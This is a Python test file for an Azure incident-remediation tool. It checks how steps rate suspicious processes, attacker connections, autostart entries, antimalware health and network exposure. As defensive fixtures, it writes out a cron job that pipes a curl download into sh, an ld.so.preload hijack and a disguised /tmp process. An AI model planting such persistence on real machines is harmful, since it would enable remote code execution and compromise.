"""What steps make of what they read: pure judgements; and that the registry and the policy agree."""

from __future__ import annotations

import json
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest

from remediation.cloud.logs import Traces
from remediation.errors import BadPolicy
from remediation.investigation.output import Output, read
from remediation.investigation.task import Finding, Weight
from remediation.policy import load_policy
from remediation.steps import (
    STEPS,
    antimalware,
    autoruns,
    av_scan,
    check_names,
    cut_flows,
    log_traces,
    msrt,
    posture,
    processes,
    updates,
    watch,
)
from remediation.steps.step import StepFailed, name_of

NOW = datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC)
ATTACKER = "198.51.100.7"


def out(*rows: dict[str, Any]) -> Output:
    return read("\n".join(json.dumps(r) for r in (*rows, {"kind": "end"})).encode())


def process(exe: str = "/usr/sbin/sshd", pid: int = 7, **changes: Any) -> dict[str, Any]:
    return {
        "kind": "process",
        "pid": pid,
        "ppid": 1,
        "user": "root",
        "name": exe.rpartition("/")[2],
        "exe": exe,
        "deleted": False,
        "sha256": "ab" * 32,
        "cmd": exe,
        **changes,
    }


def weights(found: Finding) -> list[str]:
    return [s.weight.value for s in found.signs]


# --- the registry ---


def test_the_policy_names_every_step_there_is_and_no_other():
    policy = load_policy()
    check_names(policy)
    assert set(policy.inquiry.steps) == set(STEPS)
    wrong = replace(policy, inquiry=replace(policy.inquiry, steps=("nonsense",), unasked=("posture",)))
    with pytest.raises(BadPolicy, match="nonsense is no step") as error:
        check_names(wrong)
    assert "posture changes nothing" in str(error.value)


def test_every_step_says_what_it_asks_of_azure_and_what_it_changes():
    for name, step in STEPS.items():
        assert step.name == name
        assert step.permissions
        assert (step.act is not None) == bool(step.changes)
        assert not (step.guest and step.of_alert)


# --- processes ---


@pytest.mark.parametrize(("row", "weight", "why"), [
    (process(), None, ""),
    (process("/opt/shop/run"), "note", "where none is expected"),
    (process("/tmp/.x/kworkerd"), "likely", "anyone may write"),  # noqa: S108 - it is a fact of the row
    (process("/usr/bin/x (deleted)", deleted=True), "likely", "has been deleted"),
    (process("", cmd="[kworker/0:1]", name="kworker", ppid=1234), "likely", "thread of the kernel"),
    (process("", cmd="", name="kworker", ppid=2), None, ""),
    (process("C:\\Windows\\System32\\svchost.exe", signed="Valid"), None, ""),
    (process("C:\\Windows\\System32\\svchost.exe", signed="HashMismatch"), "likely", "HashMismatch"),
    (process("C:\\Users\\Public\\a.exe"), "likely", "anyone may write"),
])
def test_a_process_wants_an_explanation_by_where_its_program_lives(row: Any, weight: str | None, why: str):
    found = processes.judge(out(row), [ATTACKER])
    assert weights(found) == ([weight] if weight else [])
    assert why in (found.signs[0].text if found.signs else "")


def test_a_live_connection_to_the_attacker_confirms_the_machine_in_whatever_form_it_is_told():
    hexed = {"kind": "socket", "pid": 7, "remote": "076433C6:01BB", "state": "01"}
    mapped = {"kind": "socket", "pid": 7, "remote": "0000000000000000FFFF0000076433C6:01BB", "state": "02"}
    windows = {"kind": "connection", "pid": 7, "address": ATTACKER, "port": 443, "state": "Established"}
    for row in (hexed, mapped, windows):
        found = processes.judge(out(process(), row), [ATTACKER])
        assert weights(found) == ["confirmed"]
        assert f"connected to {ATTACKER}" in found.signs[0].text
    over = {**hexed, "state": "06"}
    assert weights(processes.judge(out(process(), over), [ATTACKER])) == []


def test_an_unfamiliar_process_that_speaks_with_the_internet_weighs_more():
    talks = {"kind": "socket", "pid": 7, "remote": "08080808:01BB", "state": "01"}
    assert weights(processes.judge(out(process("/opt/x/y"), talks), [])) == ["likely"]
    assert weights(processes.judge(out(process("/opt/x/y"), talks), [], ["/opt/x/"])) == []


def test_garbage_in_addresses_is_nobody():
    for text in ("", "xyz", "0102:1", "00" * 16 + "00:1", "zz" * 4):
        assert processes.address_of(text) == ""
    assert processes.address_of("00000000000000000000000001000000:0050") == "::1"
    odd = {"kind": "connection", "pid": 1, "address": "not one", "state": "Established"}
    assert weights(processes.judge(out(odd), [ATTACKER])) == []


def test_a_command_lines_secrets_do_not_leave_the_evidence():
    found = processes.judge(out(process("/opt/x/y", cmd="/opt/x/y --token hunter2")), [])
    assert "hunter2" not in found.signs[0].text
    assert "hunter2" in json.dumps(found.facts)


def test_programs_are_compared_by_path_and_content():
    found = processes.judge(out(process(), process(pid=8), process("/usr/bin/x (deleted)", 9)), [])
    assert found.marks == ("/usr/sbin/sshd abababababab", "/usr/bin/x abababababab")


# --- autoruns ---


def test_what_starts_by_itself_is_weighed_by_what_it_starts_and_when_it_changed():
    start = NOW - timedelta(hours=2)
    old, new = int((start - timedelta(days=90)).timestamp()), int((start - timedelta(hours=1)).timestamp())

    def entry(kind: str, path: str, what: str, modified: int = old) -> dict[str, Any]:
        return {"kind": kind, "path": path, "what": what, "modified": modified, "owner": "root", "sha256": ""}

    found = autoruns.judge(
        out(
            entry("unit", "/etc/systemd/system/a.service", "ExecStart=/usr/bin/a"),
            entry("cron", "/etc/cron.d/b", "* * * * * root curl http://x | sh"),
            entry("cron", "/etc/cron.d/c", "* * * * * root /tmp/.c"),
            entry("preload", "/etc/ld.so.preload", "/lib/x.so"),
            entry("preload", "/etc/ld.so.preload", ""),
            entry("unit", "/etc/systemd/system/d.service", "ExecStart=/usr/bin/d", new),
            entry("unit", "/etc/systemd/system/e.service", "ExecStart=/opt/mine/e", new),
        ),
        start,
        NOW,
        ["/opt/mine/"],
    )
    assert weights(found) == ["likely", "likely", "likely", "note"]
    assert "2 changed since a week before" in found.says
    assert len(found.marks) == 7


# --- flows, antimalware, scan, tool ---


def test_live_flows_want_a_yes_and_those_that_remain_are_a_failure():
    tools = {"kind": "tools", "ss": True, "conntrack": False, "uid": 0}
    flow = {
        "kind": "before",
        "address": ATTACKER,
        "state": "ESTAB",
        "local": "10.0.0.4:5",
        "peer": f"{ATTACKER}:443",
    }
    found = cut_flows.judge(out(tools, flow, {**flow, "state": "TIME-WAIT"}), cut=False)
    assert (found.wants, weights(found)) == ("cut 1 live connections with the attacker", ["confirmed"])
    assert cut_flows.judge(out(tools), cut=False).wants == ""
    assert "1 live connections with the attacker were cut" in cut_flows.judge(out(tools, flow), cut=True).says
    with pytest.raises(StepFailed, match="1 of 1 connections with the attacker remain"):
        cut_flows.judge(out(tools, flow, {**flow, "kind": "after"}), cut=True)
    with pytest.raises(StepFailed, match="no tool"):
        cut_flows.judge(out({**tools, "ss": False}), cut=False)


def test_antimalware_that_does_not_run_or_is_old_is_said_and_one_is_wanted_where_there_is_none():
    def product(**changes: Any) -> Output:
        return out(
            {
                "kind": "product",
                "name": "Defender",
                "running": True,
                "version": "1",
                "realTime": "true",
                "definitions": "2026-01-01T00:00:00Z",
                "healthy": "",
                **changes,
            }
        )

    assert weights(antimalware.judge(product(), NOW, "linux")) == []
    assert weights(antimalware.judge(product(running=False), NOW, "linux")) == ["likely"]
    assert weights(antimalware.judge(product(realTime="False"), NOW, "linux")) == ["likely"]
    assert (
        weights(antimalware.judge(product(definitions="2025-11-01 00:00:00.123456789 +0000"), NOW, "linux"))
        == ["note"]
    )
    assert weights(antimalware.judge(product(definitions="2025-11-01 00:00:00"), NOW, "linux")) == ["note"]
    assert antimalware.judge(out(), NOW, "windows").wants == "install Microsoft's antimalware extension"
    assert antimalware.judge(out(), NOW, "linux").wants == ""


def test_a_threat_that_is_still_there_confirms_and_one_that_is_gone_stays_likely():
    def threat(status: str) -> dict[str, Any]:
        return {"kind": "threat", "name": "EICAR", "status": status, "path": "/srv/x"}

    assert weights(av_scan.judge(out(threat("active"), threat("quarantined")))) == ["confirmed"]
    assert weights(av_scan.judge(out(threat("Quarantined")))) == ["likely"]
    assert av_scan.judge(out()).says == "the scan found nothing"


@pytest.mark.parametrize(
    ("code", "weight"), [(0, []), (6, ["confirmed"]), (13, ["confirmed"]), (99, ["note"])]
)
def test_the_removal_tools_exit_code_is_its_answer(code: int, weight: list[str]):
    assert weights(msrt.judge(out({"kind": "ran", "exit": code}))) == weight


def test_a_tool_that_did_not_run_or_is_not_microsofts_is_a_failure():
    with pytest.raises(StepFailed, match="did not run"):
        msrt.judge(out())
    with pytest.raises(StepFailed, match="not signed by Microsoft"):
        msrt.judge(out({"kind": "refused", "why": "what was fetched is not signed by Microsoft"}))


# --- from outside ---


def test_missing_updates_are_counted_by_how_grave_they_are():
    found = updates.judge(
        {
            "counts": {"Critical": 1, "security": 2.0, "Other": 4, "odd": "x"},
            "reboot": "True",
            "at": "2026-01-01T00:00:00Z",
        }
    )
    assert found.says.startswith("3 critical or security updates missing, 4 others, reboot pending")
    assert found.wants == "install 3 critical and security updates, without a reboot"
    assert updates.judge({"counts": None}).wants == ""


@pytest.mark.parametrize(
    ("port", "opened"),
    [
        ("22", ["SSH (22)"]),
        ("*", ["SSH (22), RDP (3389), WinRM (5985), WinRM (5986)"]),
        ("3000-4000", ["RDP (3389)"]),
        ("443", []),
        ("x-y", []),
    ],
)
def test_management_ports_are_found_in_ranges_too(port: str, opened: list[str]):
    found = posture.judge([{"port": port, "ports": None}], [], [{"latest": NOW.isoformat()}], [], NOW)
    assert [s.text.partition(": ")[2] for s in found.signs] == opened
    assert (
        posture.judge([{"port": "", "ports": [port]}], [], [], [], NOW).signs[-1].text.startswith("no backup")
    )


def test_a_flow_is_said_of_the_machine_whose_address_it_shows():
    def row(source: str, destination: str, action: str = "Allowed") -> dict[str, Any]:
        return {"source": source, "destination": destination, "port": 443.0, "action": action, "flows": 2,
                "latest": "2026-01-02T03:00:00"}

    found = log_traces.judge(
        [Traces("flow_logs", "w", (row("10.0.0.4", ATTACKER), row(ATTACKER, "10.0.0.5", "Denied"),
                                   row("10.9.9.9", ATTACKER), row("x", "y"))),
         Traces("signins", "w", (row(ATTACKER, "eve@contoso.example", "0"),)),
         Traces("waf", "w", missing=True), Traces("waf", "w2"), Traces("activity", "w", trouble="q: 403 no")],
        {"10.0.0.4": "/vm/1", "10.0.0.5": "/vm/2"}, [ATTACKER])
    by_machine = {(s.machine, s.weight) for s in found.signs}
    assert by_machine == {
        ("/vm/1", Weight.LIKELY),
        ("/vm/2", Weight.NOTE),
        ("", Weight.NOTE),
        ("", Weight.LIKELY),
    }
    assert "5 traces in flow_logs, signins, waf" in found.says
    assert "could not be asked: w: 403 no" in found.says


def test_what_the_watch_saw_is_said_gravely():
    assert [s.weight for s in watch.signs_of({"passed": ["x"], "alerts": ["y"]})] == [
        Weight.LIKELY,
        Weight.LIKELY,
    ]
    assert watch.signs_of({}) == ()


def test_an_instance_of_a_scale_set_is_named_with_its_set():
    base = "/subscriptions/s/resourcegroups/g/providers/microsoft.compute"
    assert name_of(f"{base}/virtualmachinescalesets/web/virtualmachines/3") == "web/3"
    assert name_of(f"{base}/virtualmachines/vm") == "vm"
    assert name_of("") == ""
